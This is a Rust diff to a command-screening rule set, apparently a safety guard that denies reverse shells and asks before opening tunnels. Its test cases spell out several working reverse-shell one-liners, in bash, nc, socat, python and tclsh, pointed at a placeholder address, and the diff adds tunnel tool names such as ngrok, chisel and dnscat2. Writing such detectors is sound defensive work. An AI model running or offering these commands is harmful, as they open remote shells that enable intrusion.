@@ -4,10 +4,10 @@ use super::{Call, Hit, rules};
 
 rules! {
     SHELL = "reverse.shell", Deny, "It connects a shell to the network.",
-        matches ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "nc -e /bin/sh 203.0.113.9 4444", "socat TCP:203.0.113.9:443 EXEC:/bin/sh", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f", "exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done", "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',443));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"", "xterm -display 203.0.113.9:1", "coproc nc 203.0.113.9 443; sh <&${COPROC[0]} >&${COPROC[1]}", "echo 'set s [socket 203.0.113.9 443];while {[gets $s l]>=0} {catch {exec sh -c $l} r;puts $s $r}' | tclsh"],
-        near ["nc -z db-1 5432", "(echo > /dev/tcp/localhost/8080) 2>/dev/null", "socat - TCP:localhost:80", "bash -i"];
+        matches ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "nc -e /bin/sh 203.0.113.9 4444", "socat TCP:203.0.113.9:443 EXEC:/bin/sh", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 443 > /tmp/f", "exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read l; do $l 2>&5 >&5; done", "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',443));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"", "xterm -display 203.0.113.9:1",  "coproc nc 203.0.113.9 443; sh <&${COPROC[0]} >&${COPROC[1]}", "echo 'set s [socket 203.0.113.9 443];while {[gets $s l]>=0} {catch {exec sh -c $l} r;puts $s $r}' | tclsh"],
+        near ["nc -z db-1 5432", "openssl s_client -connect db-1:5432", "(echo > /dev/tcp/localhost/8080) 2>/dev/null", "socat - TCP:localhost:80", "bash -i"];
     TUNNEL = "reverse.tunnel", Ask, "It opens a way from outside into this host.",
-        matches ["ssh -fN -R 2222:localhost:22 u@203.0.113.9", "ngrok tcp 22", "chisel client 203.0.113.9:80 R:socks", "nc -lvp 4444", "socat TCP-LISTEN:4444,fork TCP:localhost:22"],
+        matches ["ssh -fN -R 2222:localhost:22 u@203.0.113.9", "ngrok tcp 22", "chisel client 203.0.113.9:80 R:socks", "nc -lvp 4444", "socat TCP-LISTEN:4444,fork TCP:localhost:22", "ttyd -p 8080 bash", "tmate -F"],
         near ["ssh -L 8080:localhost:80 web-1", "nc -zv web-1 80"];
 }
 
@@ -63,7 +63,9 @@ pub fn check(call: &Call<'_>) -> Vec<Hit> {
             hits.push(Hit::on(&SHELL, "network"));
         }
         "ngrok" | "chisel" | "frpc" | "cloudflared" | "bore" | "localtunnel" | "lt" | "gost" | "ligolo"
-        | "pwncat" | "rathole"
+        | "pwncat" | "rathole" | "ttyd" | "gotty" | "shellinaboxd" | "shellinabox" | "tmate" | "wetty"
+        | "sshx" | "ligolo-agent" | "ligolo-ng" | "agent-ligolo" | "iodine" | "dnscat" | "dnscat2"
+        | "revsocks" | "pagekite" | "teleconsole" | "upterm"
             if !call.has(&["version", "help", "update", "list"]) =>
         {
             hits.push(Hit::of(&TUNNEL));
